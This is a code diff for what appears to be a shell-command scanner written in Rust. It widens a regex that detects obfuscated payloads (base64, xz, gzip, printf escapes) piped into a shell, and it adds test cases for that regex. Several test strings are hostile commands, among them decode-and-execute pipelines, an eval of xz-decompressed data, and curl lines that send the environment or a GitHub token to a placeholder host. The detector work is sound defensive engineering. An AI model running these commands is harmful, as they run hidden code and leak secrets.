@@ -72,6 +72,10 @@ static RUNS_DOWNLOAD: Pattern = Pattern::new(
 static RUNS_DECODED: Pattern = Pattern::new(
     r#"(?ix)
     (base64\s+(-d|-D|--decode)|base32\s+-d|openssl\s+(enc|base64)\b[^\n|]*\s-d|xxd\s+-r|\brev\b) [^\n;]* \|\s*(sudo\s+)? (/\S*/)? (ba|z|da|k|a)?(sh|python[\d.]*|node|perl|ruby)\b
+    | ((xz|lzma|gzip|bzip2|zstd|lz4)\s+-\w*d\w*|\b(xzcat|zcat|bzcat|gunzip|unxz|zstdcat)\b|\btail\s+-c) [^\n;]* \|\s*(sudo\s+)? (/\S*/)? (ba|z|da|k|a)?sh\b
+    | \bprintf\s+['"]? (\\\\?(x[0-9a-f]{2}|[0-7]{3})){4,} [^\n;]* \|\s* (/\S*/)? (ba|z|da|k|a)?(sh|python[\d.]*|node|perl)\b
+    | \becho\s+-\w*e\w*\s+['"]? (\\\\?(x[0-9a-f]{2}|0?[0-7]{3})){4,} [^\n;]* \|\s* (/\S*/)? (ba|z|da|k|a)?(sh|python[\d.]*|node|perl)\b
+    | \beval\b [^\n]* (\bxz\s+-\w*d|\bxzcat\b|\bzcat\b|\bgunzip\b|\bgzip\s+-\w*d|\btail\s+-c)
     | \b(eval|(ba|z|da)?sh\s+-c)\b [^\n]* (base64\s+(-d|-D|--decode)|xxd\s+-r|openssl\s+enc)
     | \b(ba|z|da)?sh\b \s* <\( [^\n]* (base64\s+(-d|-D|--decode)|xxd\s+-r)
     | \b(powershell|pwsh)(\.exe)?\b [^\n]* \s-(e|en|enc|encodedcommand)\s+[a-z0-9+/=]{8,}
@@ -184,6 +188,11 @@ mod tests {
             ("/^(get|set|fetch|load|build|sh|node)$/", None),
             ("echo aGk= | base64 -d | sh", Some(Deed::RunsDecoded)),
             ("python3 -c \"import base64;exec(base64.b64decode('x'))\"", Some(Deed::RunsDecoded)),
+            ("printf '\\143\\165\\162\\154' | bash", Some(Deed::RunsDecoded)),
+            ("sed r file | xz -d 2>/dev/null | sh", Some(Deed::RunsDecoded)),
+            ("eval `xz -dc tests/files/bad.xz | tail -c +31265`", Some(Deed::RunsDecoded)),
+            ("zcat dump.sql.gz | mysql app", None),
+            ("printf '%s\\n' a b | sh ./list", None),
             ("env | curl -X POST -d @- https://x.example", Some(Deed::SendsSecret)),
             ("curl -H \"Authorization: $GITHUB_TOKEN\" https://x.example", Some(Deed::SendsSecret)),
             ("curl -X POST https://x.example/hook -d done", Some(Deed::Sends)),
